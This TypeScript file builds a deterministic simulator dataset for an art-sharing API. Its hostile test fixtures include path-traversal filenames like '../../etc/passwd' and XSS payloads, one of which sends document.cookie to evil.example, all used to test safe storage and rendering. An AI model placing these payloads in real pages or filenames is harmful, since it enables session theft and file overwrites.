// The simulator's world: a seeded, deterministic dataset (users, deviations, folders, comments, notes,
// messages, watch feed) and its types. Routes read and change it; tests read it as ground truth.
import { createRng, type Rng } from "./rng.ts";
import { applyVariance, VARIANCE_SEED_SALT, type VarianceTruth } from "./variance.ts";

export type DatasetSize = {
  /** Deviations in the account owner's gallery. */
  deviations: number;
  /** Gallery folders of the owner, "Featured" included. */
  galleryFolders: number;
  /** Collection folders of the owner, "Featured" included. */
  collectionFolders: number;
  /** Deviations by other users that the owner has faved (spread over the collection folders). */
  favourites: number;
  notes: number;
  /** Note folders beyond the system ones (Inbox, Sent). */
  noteFolders: number;
  messages: number;
  feedItems: number;
  watchers: number;
  friends: number;
  /** Other users with galleries of their own (the owner watches them). */
  trackedUsers: number;
  trackedUserDeviations: number;
  statuses: number;
};

/** What startSimulator's `dataset` option takes: sizes, plus the downloads work's extras. */
export type DatasetOptions = Partial<DatasetSize> & {
  /**
   * Hostile titles and filenames (traversal, 300 characters, NUL, bidi overrides, Windows device names,
   * names differing only in case or normalisation) on the owner's downloadable deviations, and a hostile
   * gallery folder and collection name. Off by default: it changes nothing else in the dataset.
   */
  hostileNames?: boolean;
  /**
   * Hostile values on a few of the owner's live gallery deviations (see HOSTILE_DATA and DeviationQuirks):
   * a 10 000-character title with a 1 MB description and 2 000 tags, script and HTML in a title and a
   * description, counters as numeric strings, PHP's `[]` for empty objects, unknown extra fields, optional
   * fields left out, and a deleted deviation, favourite and status. Off by default; it draws no random numbers,
   * so the rest of the dataset is unchanged.
   */
  hostileData?: boolean;
  /** Original sizes in bytes for the owner's downloadable deviations, by index (see downloadableOwnerDeviations). */
  largeFiles?: Array<{ index: number; bytes: number }>;
  /**
   * Draws what the real service allows beyond the base dataset (see variance.ts and VarianceTruth): unfiled
   * and doubly filed gallery deviations, empty folders, gone users, locked works, the bucket page key. Off by
   * default; it draws from its own generator after everything else, so the base dataset is unchanged.
   */
  variance?: boolean;
};

export const DEFAULT_DATASET_SIZE: DatasetSize = {
  deviations: 500,
  galleryFolders: 6,
  collectionFolders: 4,
  favourites: 120,
  notes: 60,
  noteFolders: 4,
  messages: 100,
  feedItems: 40,
  watchers: 30,
  friends: 20,
  trackedUsers: 3,
  trackedUserDeviations: 40,
  statuses: 8,
};

export type DeviationKind = "image" | "journal" | "literature" | "video";

export type SimUser = {
  userid: string;
  username: string;
  usericon: string;
  type: "regular" | "premium" | "group";
  joindate: string;
  realName: string;
  tagline: string;
  country: string;
  countryid: number;
  website: string;
  bio: string;
  artistLevel: string | null;
  artistSpecialty: string | null;
  sex: string | null;
  age: number | null;
  /** Deactivated by the user: every user-scoped endpoint answers error_code 1 (docs/service-behaviour.md#user-error-codes). */
  isDeactivated: boolean;
  /** Suspended by staff: error_code 0. Absent (not false) on generated users, so the base dataset is unchanged. */
  isSuspended?: boolean;
  /** Userids of this user's watchers. */
  watcherIds: string[];
  /** Who this user watches, with the watch settings the service reports. */
  friends: SimWatch[];
  profilePageviews: number;
};

export type UserState = "active" | "deactivated" | "suspended";

/** A user's account state; suspension wins if both flags are set. */
export function userState(u: { readonly isDeactivated: boolean; readonly isSuspended?: boolean | undefined }): UserState {
  if (u.isSuspended === true) return "suspended";
  return u.isDeactivated ? "deactivated" : "active";
}

/** Deactivated or suspended: the user's profile and listings answer an error, their works vanish from others' listings. */
export function isGone(u: { readonly isDeactivated: boolean; readonly isSuspended?: boolean | undefined } | undefined): boolean {
  return u !== undefined && userState(u) !== "active";
}

export type WatchFlags = {
  friend: boolean;
  deviations: boolean;
  journals: boolean;
  forum_threads: boolean;
  critiques: boolean;
  scraps: boolean;
  activity: boolean;
  collections: boolean;
};

export type SimWatch = { userid: string; watch: WatchFlags; lastvisit: string | null };

export type SimImage = { width: number; height: number; filesize: number; transparency: boolean; ext: "jpg" | "png" | "gif" };

/**
 * How the simulator renders one deviation (object and metadata) beyond its values: what the real service
 * is documented to do (docs/service-behaviour.md#schema-tolerance: `[]` for `{}`, unknown fields added per
 * minor version, optional fields absent) and what a hostile test needs on top (counters as numeric strings,
 * as `count` of note folders and `published_time` already are).
 */
export type DeviationQuirks = {
  /** `stats` counters sent as numeric strings ("favourites": "12"), in the deviation and in its metadata. */
  statsAsStrings?: boolean;
  /** PHP's empty array for empty objects: the deviation's `stats: []`, metadata `camera: []` and `submission.submitted_with: []`. */
  emptyObjectsAsArrays?: boolean;
  /** Fields no client knows yet, in the deviation and its metadata (objects, arrays, nulls). */
  extraFields?: boolean;
  /** Optional fields left out: printid, is_favourited, allows_comments, stats, published_time, download_filesize; metadata license, tags, submission, stats. */
  omitOptional?: boolean;
};

export type SimDeviation = {
  deviationid: string;
  numericId: number;
  authorId: string;
  kind: DeviationKind;
  title: string;
  slug: string;
  /** Epoch seconds. */
  publishedTime: number;
  isDeleted: boolean;
  isMature: boolean;
  matureLevel: "strict" | "moderate" | null;
  matureClassification: string[];
  isDownloadable: boolean;
  allowsComments: boolean;
  isPinned: boolean;
  printid: string | null;
  stats: { favourites: number; views: number; viewsToday: number; downloads: number; downloadsToday: number };
  /** Description HTML (metadata only). */
  description: string;
  tags: string[];
  license: string;
  /** Original file (images; also the poster frame of videos). */
  image: SimImage | null;
  /** The filename /deviation/download reports, when not derived from the slug (hostile names). */
  filename?: string;
  /** A multi-image post: the API exposes only the first image (docs/service-behaviour.md#multi-image). */
  isMultiMedia?: boolean;
  videos: Array<{ quality: string; filesize: number; duration: number }> | null;
  /** Journal and literature text; apiHtmlEmpty models /deviation/content returning an empty `html`. */
  text: { html: string; excerpt: string; apiHtmlEmpty: boolean } | null;
  /** Subscription-tier content: `tier.stats` is sent as `[]` when statsAsArray. */
  tier: { statsAsArray: boolean; state: string } | null;
  /**
   * In a premium (watchers-only or paid) gallery folder the viewer has no access to: listed with
   * `tier_access: "locked"` and `premium_folder_data`, without `content` (docs/service-behaviour.md#tier-locked).
   */
  premiumFolder?: { type: "watchers" | "paid"; galleryId: string; pointsPrice: number | null; dollarPrice: number | null };
  camera: Record<string, string> | null;
  /** ISO creation time (metadata submission.creation_time). */
  creationTime: string;
  /** Bumped by every edit. */
  version: number;
  /** Userids who faved it (the owner's faves are tracked by the collection folders). */
  favedBy: Array<{ userid: string; time: number }>;
  /** Rendering quirks (dataset.hostileData). */
  quirks?: DeviationQuirks;
};

export type SimGalleryFolder = {
  folderid: string;
  ownerId: string;
  parent: string | null;
  name: string;
  description: string;
  /** Ordered; may include deleted deviations, which listings skip. */
  deviationIds: string[];
};

export type SimCollectionFolder = {
  folderid: string;
  ownerId: string;
  name: string;
  description: string;
  deviationIds: string[];
};

export type CommentTarget = { kind: "deviation" | "profile" | "status"; id: string };

export type SimComment = {
  commentid: string;
  parentid: string | null;
  target: CommentTarget;
  posted: string;
  userId: string;
  body: string;
  hidden: null | "hidden_by_owner" | "hidden_by_admin" | "hidden_by_commenter" | "hidden_as_spam";
  likes: number;
  isFeatured: boolean;
};

export type SimStatus = {
  statusid: string;
  authorId: string;
  body: string;
  ts: string;
  isDeleted: boolean;
  /** A shared deviation, if any. */
  sharedDeviationId: string | null;
};

export type SimNoteFolder = { folderid: string; parentid: string | null; title: string; system: boolean };

export type SimNote = {
  noteid: string;
  folderid: string;
  ts: string;
  unread: boolean;
  starred: boolean;
  sent: boolean;
  subject: string;
  body: string;
  fromId: string;
  recipientIds: string[];
};

export type MessageBox = "feedback" | "mentions";
export type FeedbackType = "comments" | "replies" | "activity";

export type SimMessage = {
  messageid: string;
  /** Insertion order, newest highest; the cursor of /messages/feed is built on it. */
  seq: number;
  box: MessageBox;
  feedbackType: FeedbackType | null;
  type: string;
  ts: string;
  isNew: boolean;
  originatorId: string;
  /** Messages with the same stackid fold into one entry in stacked views. */
  stackid: string;
  subjectDeviationId: string | null;
  subjectCommentId: string | null;
  html: string;
  /** The text of the comment a comment, reply or mention message carries (default "Nice work!"). */
  commentBody?: string;
};

export type SimFeedItem = {
  seq: number;
  ts: string;
  type: "deviation_submitted" | "journal_submitted" | "status" | "collection_update";
  byUserId: string;
  bucketid: string;
  deviationIds: string[];
  statusId: string | null;
  collectionFolderId: string | null;
};

export type SimStashItem = {
  itemid: string;
  stackid: string;
  stack: string;
  title: string;
  artistComments: string;
  tags: string[];
  files: Array<{ filename: string; contentType: string; size: number; sha256: string }>;
  creationTime: number;
  publishedDeviationId: string | null;
};

export type Dataset = {
  seed: number;
  size: DatasetSize;
  ownerId: string;
  users: Map<string, SimUser>;
  usersByName: Map<string, SimUser>;
  deviations: Map<string, SimDeviation>;
  galleryFolders: SimGalleryFolder[];
  /**
   * Gallery deviations in no folder, by owner userid (newest first): /gallery/all lists them, no folder does
   * (docs/service-behaviour.md#folders-optional). Empty unless dataset.variance. See galleryAllIds.
   */
  unfiled: Map<string, string[]>;
  collectionFolders: SimCollectionFolder[];
  comments: SimComment[];
  statuses: SimStatus[];
  noteFolders: SimNoteFolder[];
  notes: SimNote[];
  messages: SimMessage[];
  feed: SimFeedItem[];
  stash: SimStashItem[];
  /** Counters for ids minted after generation (writes, activity). */
  counters: { numericId: number; messageSeq: number; feedSeq: number };
  /** What dataset.hostileData changed (absent without it). */
  hostile?: HostileDataTargets;
  /** What dataset.variance drew (absent without it). */
  variance?: VarianceTruth;
};

type DeepReadonly<T> = T extends (...args: never[]) => unknown
  ? T
  : T extends Map<infer K, infer V>
    ? ReadonlyMap<K, DeepReadonly<V>>
    : T extends Array<infer U>
      ? ReadonlyArray<DeepReadonly<U>>
      : T extends object
        ? { readonly [P in keyof T]: DeepReadonly<T[P]> }
        : T;

/** The dataset as tests see it: the live store, typed read-only. */
export type GroundTruth = DeepReadonly<Dataset>;

const ADJECTIVES = ["quiet", "amber", "neon", "hollow", "lunar", "velvet", "crimson", "paper", "glass", "feral", "silent", "golden", "frozen", "little", "wild", "last"];
const NOUNS = ["harbor", "fox", "garden", "signal", "tide", "lantern", "orchard", "moth", "citadel", "meadow", "comet", "library", "river", "crow", "atlas", "ember"];
const NAME_PARTS = ["ink", "pixel", "moon", "sketch", "brush", "noir", "fable", "rune", "aster", "kite", "drift", "mossy", "echo", "vellum", "quill", "saffron"];
const TAGS = ["digitalart", "fantasy", "landscape", "portrait", "sketch", "watercolor", "scifi", "character", "oc", "fanart", "photography", "nature", "abstract", "study", "concept", "traditional"];
const WORDS = [...NOUNS, ...ADJECTIVES];
const LICENSES = ["No License", "Creative Commons Attribution-Noncommercial-No Derivative Works 3.0 License", "Creative Commons Attribution 3.0 License"];
const COUNTRIES: Array<[number, string]> = [[1, "United States"], [4, "Germany"], [12, "Japan"], [33, "France"], [44, "United Kingdom"], [55, "Brazil"], [61, "Australia"], [82, "South Korea"]];
/** A handful of hostile titles that a mirror must store and render safely. */
export const HOSTILE_TITLES = [
  `<script>alert("x")</script> Study`,
  "Evil \u202Egnp.exe Title",
  `Quote's "and" back\\slash`,
  "Emoji 🦊 and ünïcödé — dash",
  "   padded   title   ",
  "Zero\u200Bwidth\u200Djoiner and a very long title that keeps going well past what most listings expect to show in one line of text",
];

const LONG_TITLE = "Long title that keeps going ".repeat(11).slice(0, 300);

/**
 * Hostile names for the downloads work (dataset.hostileNames): each a title and the filename the service
 * reports for the original (`ext` is the file's real extension).
 */
export const HOSTILE_NAMES: ReadonlyArray<{ title: string; filename: (ext: string) => string }> = [
  { title: "../../etc/passwd", filename: () => "../../etc/passwd" },
  { title: "/etc/shadow", filename: (ext) => `/etc/shadow.${ext}` },
  { title: "..\\..\\Windows\\win.ini", filename: (ext) => `..\\..\\Windows\\win.${ext}` },
  { title: LONG_TITLE, filename: (ext) => `${"x".repeat(300)}.${ext}` },
  { title: "Ł".repeat(300), filename: (ext) => `${"ł".repeat(200)}.${ext}` },
  { title: "nul\u0000byte title", filename: (ext) => `nul\u0000byte.${ext}` },
  { title: "Evil \u202Egnp.exe", filename: () => "evil\u202Egnp.exe" },
  { title: "\u2066isolated\u2069 \u200Fmarks\u200E", filename: (ext) => `\u2066isolated\u2069.${ext}` },
  { title: "CON", filename: (ext) => `CON.${ext}` },
  { title: "nul.txt", filename: () => "nul.txt" },
  { title: "COM1", filename: (ext) => `com1.${ext}` },
  { title: "..", filename: () => ".." },
  { title: ".", filename: () => "." },
  { title: "", filename: () => "" },
  { title: " trailing dots and spaces... ", filename: (ext) => ` trailing.${ext}. ` },
  { title: "tab\there\nnewline\r", filename: (ext) => `tab\there.${ext}` },
  { title: "Sunset", filename: (ext) => `sunset.${ext}` },
  { title: "SUNSET", filename: (ext) => `SUNSET.${ext}` },
  { title: "Caf\u00e9", filename: (ext) => `caf\u00e9.${ext}` },
  { title: "Cafe\u0301", filename: (ext) => `cafe\u0301.${ext}` },
];

type DownloadCandidate = Pick<SimDeviation, "deviationid" | "isDeleted" | "isDownloadable" | "publishedTime" | "numericId"> & { readonly image: unknown };

type GalleryView<D> = {
  readonly galleryFolders: ReadonlyArray<{ readonly ownerId: string; readonly deviationIds: readonly string[] }>;
  /** Optional so callers built before it existed keep working. */
  readonly unfiled?: ReadonlyMap<string, readonly string[]>;
  readonly deviations: ReadonlyMap<string, D>;
};

/**
 * Every gallery deviation of one user, newest first, deleted ones included: the folders' contents plus the
 * unfiled ones, as /gallery/all lists them (docs/service-behaviour.md#folders-optional). Works on the live
 * dataset and on `sim.truth`.
 */
export function galleryAllIds<D extends Pick<SimDeviation, "publishedTime" | "numericId">>(dataset: GalleryView<D>, ownerId: string): string[] {
  const seen = new Set<string>();
  const out: Array<{ id: string; d: D }> = [];
  const add = (id: string) => {
    if (seen.has(id)) return;
    seen.add(id);
    const d = dataset.deviations.get(id);
    if (d) out.push({ id, d });
  };
  for (const f of dataset.galleryFolders) if (f.ownerId === ownerId) f.deviationIds.forEach(add);
  dataset.unfiled?.get(ownerId)?.forEach(add);
  out.sort((a, b) => b.d.publishedTime - a.d.publishedTime || b.d.numericId - a.d.numericId);
  return out.map((x) => x.id);
}

/**
 * The owner's deviations whose original /deviation/download serves, newest first (the gallery's order).
 * Works on the live dataset and on `sim.truth`.
 */
export function downloadableOwnerDeviations<D extends DownloadCandidate>(dataset: GalleryView<D> & { readonly ownerId: string }): D[] {
  const out: D[] = [];
  for (const id of galleryAllIds(dataset, dataset.ownerId)) {
    const d = dataset.deviations.get(id);
    if (d && !d.isDeleted && d.isDownloadable && d.image) out.push(d);
  }
  return out;
}

/** Applies the downloads extras of DatasetOptions (no random draws: the rest of the dataset is unchanged). */
function applyDownloadExtras(dataset: Dataset, options: DatasetOptions): void {
  const downloadable = downloadableOwnerDeviations(dataset);
  for (const { index, bytes } of options.largeFiles ?? []) {
    const d = downloadable[index];
    if (!d?.image) throw new RangeError(`dataset.largeFiles: no downloadable deviation at index ${index} (there are ${downloadable.length})`);
    if (!Number.isSafeInteger(bytes) || bytes < 1) throw new RangeError(`dataset.largeFiles: bytes must be a positive integer, got ${bytes}`);
    d.image.filesize = bytes;
  }
  const renamed = new Set<string>();
  if (options.hostileNames) applyHostileNames(dataset, downloadable, renamed);
  if (options.hostileData) applyHostileData(dataset, renamed);
}

function applyHostileNames(dataset: Dataset, downloadable: SimDeviation[], renamed: Set<string>): void {
  HOSTILE_NAMES.forEach((name, i) => {
    const d = downloadable[downloadable.length - 1 - i];
    if (!d) return;
    renamed.add(d.deviationid);
    d.title = name.title;
    d.slug = deviationSlug(name.title);
    d.filename = name.filename(d.image?.ext ?? "jpg");
  });
  const gallery = dataset.galleryFolders.filter((f) => f.ownerId === dataset.ownerId);
  const collections = dataset.collectionFolders.filter((f) => f.ownerId === dataset.ownerId);
  if (gallery[1]) gallery[1].name = "../../etc";
  if (collections[1]) collections[1].name = "CON";
}

/** The script title of dataset.hostileData: escaped wherever dvault shows it. */
export const HOSTILE_SCRIPT_TITLE = `<script>alert("dvault")</script><img src=x onerror="alert(1)"> Hostile & "quoted"`;
/** The description that goes with it. */
export const HOSTILE_SCRIPT_DESCRIPTION = `<script>document.location="https://evil.example/?c="+document.cookie</script><iframe src="javascript:alert(2)"></iframe><b onmouseover="alert(3)">Look</b> &lt;script&gt;`;
export const OVERSIZED_TITLE_CHARS = 10_000;
export const OVERSIZED_DESCRIPTION_BYTES = 1_048_576;
export const OVERSIZED_TAGS = 2_000;

/**
 * A 1 MiB description (ASCII, so characters = bytes) of distinct words: some 100 000 lexemes, more than a
 * search index's tsvector holds (1 MiB). Bold every 16 words in its first half; in its second half a bare
 * `<` (never followed by a `>`) every 4 words; in its last 5 % a `<script` opening every 4 words that never
 * closes (the search parser skips everything after one, so they come last).
 */
export function oversizedDescription(bytes = OVERSIZED_DESCRIPTION_BYTES): string {
  const parts: string[] = [];
  let length = 0;
  for (let i = 0; length < bytes; i++) {
    const word = `w${i.toString(36)}qz `;
    const hostile = i % 4 === 0 ? (length > bytes * 0.95 ? "<script " : length > bytes / 2 ? "< " : "") : "";
    const part = hostile ? hostile + word : length <= bytes / 2 && i % 16 === 1 ? `<b>${word.trim()}</b> ` : word;
    parts.push(part);
    length += part.length;
  }
  return parts.join("").slice(0, bytes);
}

/**
 * Which of the owner's deviations dataset.hostileData changed, by role (ids), for tests. The deviations are
 * the newest live ones of the owner's galleries that hostileNames left alone.
 */
export type HostileDataTargets = {
  oversized: string;
  script: string;
  statsAsStrings: string;
  emptyArrays: string;
  omitted: string;
  deleted: string;
  deletedFavourite: string | null;
  deletedStatus: string | null;
};

function applyHostileData(dataset: Dataset, renamed: ReadonlySet<string>): void {
  const live: SimDeviation[] = [];
  for (const f of dataset.galleryFolders) {
    if (f.ownerId !== dataset.ownerId) continue;
    for (const id of f.deviationIds) {
      const d = dataset.deviations.get(id);
      if (d && !d.isDeleted && !renamed.has(id) && !live.includes(d)) live.push(d);
    }
  }
  live.sort((a, b) => b.publishedTime - a.publishedTime || b.numericId - a.numericId);
  if (live.length < 6) throw new RangeError(`dataset.hostileData needs 6 live owner deviations beyond the hostile names, there are ${live.length}`);
  const [oversized, script, strings, arrays, omitted, deleted] = live as [SimDeviation, SimDeviation, SimDeviation, SimDeviation, SimDeviation, SimDeviation];
  oversized.title = "Tall tale ".repeat(OVERSIZED_TITLE_CHARS / 10);
  oversized.slug = deviationSlug(oversized.title);
  oversized.description = oversizedDescription();
  oversized.tags = Array.from({ length: OVERSIZED_TAGS }, (_, i) => `tag${i.toString(36).padStart(3, "0")}`);
  oversized.quirks = { extraFields: true };
  script.title = HOSTILE_SCRIPT_TITLE;
  script.slug = deviationSlug(script.title);
  script.description = HOSTILE_SCRIPT_DESCRIPTION;
  script.quirks = { statsAsStrings: true, extraFields: true };
  strings.quirks = { statsAsStrings: true };
  arrays.quirks = { emptyObjectsAsArrays: true };
  omitted.quirks = { omitOptional: true };
  deleted.isDeleted = true;
  const fave = dataset.collectionFolders.find((f) => f.ownerId === dataset.ownerId)?.deviationIds.map((id) => dataset.deviations.get(id)).find((d) => d && !d.isDeleted);
  if (fave) fave.isDeleted = true;
  const status = dataset.statuses.find((s) => s.authorId === dataset.ownerId && !s.isDeleted);
  if (status) status.isDeleted = true;
  dataset.hostile = {
    oversized: oversized.deviationid,
    script: script.deviationid,
    statsAsStrings: strings.deviationid,
    emptyArrays: arrays.deviationid,
    omitted: omitted.deviationid,
    deleted: deleted.deviationid,
    deletedFavourite: fave?.deviationid ?? null,
    deletedStatus: status?.statusid ?? null,
  };
}

export function newNumericIdStart(): number {
  return 900_000_000;
}

function isoAt(epochMs: number): string {
  return new Date(epochMs).toISOString().slice(0, 19) + "+0000";
}

function slugify(title: string): string {
  const s = title
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, "-")
    .replace(/^-+|-+$/g, "");
  return s.length > 0 ? s.slice(0, 60) : "untitled";
}

export function deviationSlug(title: string): string {
  return slugify(title).split("-").map((w) => (w ? w[0]!.toUpperCase() + w.slice(1) : w)).join("-");
}

export { isoAt as simIso };

type GenContext = { rng: Rng; startMs: number; numericId: number; dataset: Dataset };

function makeUser(ctx: GenContext, username: string, type: SimUser["type"] = "regular"): SimUser {
  const { rng } = ctx;
  const [countryid, country] = rng.pick(COUNTRIES);
  const userid = rng.uuid();
  const user: SimUser = {
    userid,
    username,
    usericon: `https://a.deviantart.net/avatars/${username[0]}/${username[1] ?? "_"}/${username.toLowerCase()}.png`,
    type,
    joindate: isoAt(ctx.startMs - rng.int(200, 5000) * 86_400_000),
    realName: rng.chance(0.7) ? `${rng.pick(NAME_PARTS)} ${rng.pick(NOUNS)}` : "",
    tagline: rng.chance(0.6) ? `${rng.pick(ADJECTIVES)} things, mostly ${rng.pick(TAGS)}` : "",
    country,
    countryid,
    website: rng.chance(0.4) ? `https://${username.toLowerCase()}.example.net` : "",
    bio: `<b>Hi!</b> I draw ${rng.pick(TAGS)}.`,
    artistLevel: rng.pick(["Student", "Hobbyist", "Professional", null]),
    artistSpecialty: rng.pick(["Digital Art", "Traditional Art", "Photography", "Literature", null]),
    sex: rng.pick(["m", "f", null]),
    age: rng.chance(0.5) ? rng.int(18, 60) : null,
    isDeactivated: false,
    watcherIds: [],
    friends: [],
    profilePageviews: rng.int(100, 500_000),
  };
  ctx.dataset.users.set(userid, user);
  ctx.dataset.usersByName.set(username.toLowerCase(), user);
  return user;
}

function watchFlags(rng: Rng): WatchFlags {
  return {
    friend: rng.chance(0.3),
    deviations: true,
    journals: rng.chance(0.8),
    forum_threads: rng.chance(0.2),
    critiques: rng.chance(0.4),
    scraps: rng.chance(0.5),
    activity: rng.chance(0.6),
    collections: rng.chance(0.5),
  };
}

export type NewDeviationInput = {
  authorId: string;
  kind?: DeviationKind;
  title?: string;
  publishedTime?: number;
  isMature?: boolean;
};

/** Makes a deviation (not yet placed in any folder). Used by the generator and by writes/activity. */
export function makeDeviation(rng: Rng, dataset: Dataset, startMs: number, input: NewDeviationInput): SimDeviation {
  const kindRoll = rng.next();
  const kind: DeviationKind = input.kind ?? (kindRoll < 0.8 ? "image" : kindRoll < 0.9 ? "journal" : kindRoll < 0.96 ? "literature" : "video");
  const title = input.title ?? `${cap(rng.pick(ADJECTIVES))} ${cap(rng.pick(NOUNS))}${rng.chance(0.3) ? ` ${rng.int(2, 99)}` : ""}`;
  const isMature = input.isMature ?? rng.chance(0.12);
  const numericId = ++dataset.counters.numericId;
  const published = input.publishedTime ?? Math.floor(startMs / 1000) - rng.int(3600, 3 * 365 * 86400);
  const hasImage = kind === "image" || kind === "video";
  const ext = rng.pick(["jpg", "jpg", "jpg", "png", "gif"] as const);
  const width = rng.int(400, 4000);
  const height = rng.int(400, 4000);
  const isText = kind === "journal" || kind === "literature";
  const words = isText ? Array.from({ length: rng.int(20, 60) }, () => rng.pick(WORDS)) : [];
  const dev: SimDeviation = {
    deviationid: rng.uuid(),
    numericId,
    authorId: input.authorId,
    kind,
    title,
    slug: deviationSlug(title),
    publishedTime: published,
    isDeleted: false,
    isMature,
    matureLevel: isMature ? rng.pick(["strict", "moderate"] as const) : null,
    matureClassification: isMature ? rng.sample(["nudity", "sexual", "gore", "language", "ideology"], rng.int(1, 2)) : [],
    isDownloadable: hasImage && kind === "image" ? rng.chance(0.75) : false,
    allowsComments: rng.chance(0.95),
    isPinned: false,
    printid: kind === "image" && rng.chance(0.1) ? rng.uuid() : null,
    stats: {
      favourites: rng.int(0, 400),
      views: rng.int(10, 20000),
      viewsToday: rng.int(0, 30),
      downloads: rng.int(0, 300),
      downloadsToday: rng.int(0, 5),
    },
    description: rng.chance(0.8) ? `<b>${escapeHtml(title)}</b><br />Made with ${rng.pick(TAGS)}. <a href="https://example.com/${numericId}">ref</a>` : "",
    tags: rng.sample(TAGS, rng.int(0, 6)),
    license: rng.pick(LICENSES),
    image: hasImage ? { width, height, filesize: rng.int(30_000, 900_000), transparency: ext === "png" && rng.chance(0.5), ext } : null,
    videos: kind === "video" ? withLowerQuality({ quality: "720p", filesize: rng.int(1_000_000, 9_000_000), duration: rng.int(5, 300) }) : null,
    text: isText ? { html: `<p>${words.join(" ")}</p>`, excerpt: words.slice(0, 20).join(" "), apiHtmlEmpty: rng.chance(0.25) } : null,
    tier: rng.chance(0.05) ? { statsAsArray: rng.chance(0.5), state: "active" } : null,
    camera: kind === "image" && rng.chance(0.15) ? { make: "Canon", model: `EOS ${rng.int(5, 90)}D`, shutter_speed: "1/250", aperture: "F/5.6", iso: String(rng.pick([100, 200, 400, 800])) } : null,
    creationTime: isoAt(published * 1000 - rng.int(0, 3600) * 1000),
    version: 1,
    favedBy: [],
  };
  // Derived, not drawn: the random sequence (and so every other generated value) stays as it was.
  if (kind === "image" && numericId % 19 === 0) dev.isMultiMedia = true;
  dataset.deviations.set(dev.deviationid, dev);
  return dev;
}

/** A 360p rendition next to the drawn 720p one (no extra random draws), so "best quality" is a choice. */
function withLowerQuality(v: { quality: string; filesize: number; duration: number }): Array<{ quality: string; filesize: number; duration: number }> {
  return [{ quality: "360p", filesize: Math.floor(v.filesize * 0.35), duration: v.duration }, v];
}

function cap(word: string): string {
  return word.length > 0 ? word[0]!.toUpperCase() + word.slice(1) : word;
}

export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

function uniqueName(rng: Rng, taken: Set<string>): string {
  for (;;) {
    const name = `${rng.pick(NAME_PARTS)}${cap(rng.pick(NAME_PARTS))}${rng.chance(0.5) ? rng.int(1, 999) : ""}`;
    if (!taken.has(name.toLowerCase())) {
      taken.add(name.toLowerCase());
      return name;
    }
  }
}

export function generateDataset(seed: number, options: DatasetOptions, start: Date): Dataset {
  const { hostileNames: _hostile, hostileData: _hostileData, largeFiles: _large, variance: _variance, ...sizeOverrides } = options;
  const size: DatasetSize = { ...DEFAULT_DATASET_SIZE, ...sizeOverrides };
  const rng = createRng(seed);
  const startMs = start.getTime();
  const dataset: Dataset = {
    seed,
    size,
    ownerId: "",
    users: new Map(),
    usersByName: new Map(),
    deviations: new Map(),
    galleryFolders: [],
    unfiled: new Map(),
    collectionFolders: [],
    comments: [],
    statuses: [],
    noteFolders: [],
    notes: [],
    messages: [],
    feed: [],
    stash: [],
    counters: { numericId: 700_000_000 + rng.int(0, 99_999_999), messageSeq: 0, feedSeq: 0 },
  };
  const ctx: GenContext = { rng, startMs, numericId: 0, dataset };
  const taken = new Set<string>(["simartist"]);

  const owner = makeUser(ctx, "SimArtist", "premium");
  owner.artistLevel = "Hobbyist";
  dataset.ownerId = owner.userid;

  // Other users: tracked (with galleries), watchers, friends, and a pool of commenters/fave authors.
  const tracked = Array.from({ length: size.trackedUsers }, () => makeUser(ctx, uniqueName(rng, taken)));
  const others = Array.from({ length: Math.max(10, size.watchers + Math.ceil(size.friends / 2)) }, () =>
    makeUser(ctx, uniqueName(rng, taken), rng.chance(0.05) ? "group" : "regular"),
  );
  const people = [...tracked, ...others];

  owner.watcherIds = rng.sample(others, size.watchers).map((u) => u.userid);
  const friendPool = [...tracked, ...rng.sample(others, Math.max(0, size.friends - tracked.length))];
  owner.friends = friendPool.slice(0, Math.max(size.friends, tracked.length)).map((u) => ({
    userid: u.userid,
    watch: { ...watchFlags(rng), deviations: true },
    lastvisit: rng.chance(0.5) ? isoAt(startMs - rng.int(1, 90) * 86_400_000) : null,
  }));
  for (const u of people) {
    u.watcherIds = rng.sample(people, rng.int(0, 8)).filter((w) => w !== u).map((w) => w.userid);
    u.friends = rng.sample(people, rng.int(0, 6)).filter((w) => w !== u).map((w) => ({ userid: w.userid, watch: watchFlags(rng), lastvisit: null }));
    if (owner.watcherIds.includes(u.userid)) u.friends.push({ userid: owner.userid, watch: watchFlags(rng), lastvisit: null });
  }

  // The owner's gallery: folder 0 is "Featured"; deviations spread over the rest, some folders nested.
  const ownerDevs = makeGallery(rng, dataset, startMs, owner.userid, size.deviations, size.galleryFolders, true);
  // Tracked users' galleries.
  for (const u of tracked) makeGallery(rng, dataset, startMs, u.userid, size.trackedUserDeviations, 3, false);

  // Favourites: other users' deviations, plus a few of the tracked users'.
  const faveDevs: SimDeviation[] = [];
  for (let i = 0; i < size.favourites; i++) {
    const author = rng.pick(people);
    const d = makeDeviation(rng, dataset, startMs, { authorId: author.userid });
    faveDevs.push(d);
  }
  // A few faved deviations were deleted later: collections show them as is_deleted stubs.
  for (const d of faveDevs) if (rng.chance(0.03)) d.isDeleted = true;
  const nCollections = Math.max(1, size.collectionFolders);
  for (let i = 0; i < nCollections; i++) {
    dataset.collectionFolders.push({
      folderid: rng.uuid(),
      ownerId: owner.userid,
      name: i === 0 ? "Featured" : `${cap(rng.pick(ADJECTIVES))} ${cap(rng.pick(NOUNS))}s`,
      description: i === 0 ? "" : rng.chance(0.5) ? "Things I like" : "",
      deviationIds: [],
    });
  }
  const faveTime = Math.floor(startMs / 1000) - 86400;
  for (const d of faveDevs) {
    const primary = dataset.collectionFolders[0]!;
    primary.deviationIds.push(d.deviationid);
    if (nCollections > 1 && rng.chance(0.6)) rng.pick(dataset.collectionFolders.slice(1)).deviationIds.push(d.deviationid);
    d.favedBy.push({ userid: owner.userid, time: faveTime - rng.int(0, 400 * 86400) });
  }
  // Tracked users' folders get a collection too (small).
  for (const u of tracked) {
    const theirs = Array.from(dataset.deviations.values()).filter((d) => d.authorId !== u.userid && !d.isDeleted);
    dataset.collectionFolders.push({
      folderid: rng.uuid(),
      ownerId: u.userid,
      name: "Featured",
      description: "",
      deviationIds: rng.sample(theirs, Math.min(12, theirs.length)).map((d) => d.deviationid),
    });
  }
  // Who faved the owner's works.
  for (const d of ownerDevs) {
    const n = Math.min(d.stats.favourites, rng.int(0, 5));
    const seen = new Set<string>();
    for (let i = 0; i < n; i++) {
      const u = rng.pick(people);
      if (seen.has(u.userid)) continue;
      seen.add(u.userid);
      d.favedBy.push({ userid: u.userid, time: d.publishedTime + rng.int(60, 86400 * 30) });
    }
  }

  // Statuses of the owner.
  for (let i = 0; i < size.statuses; i++) {
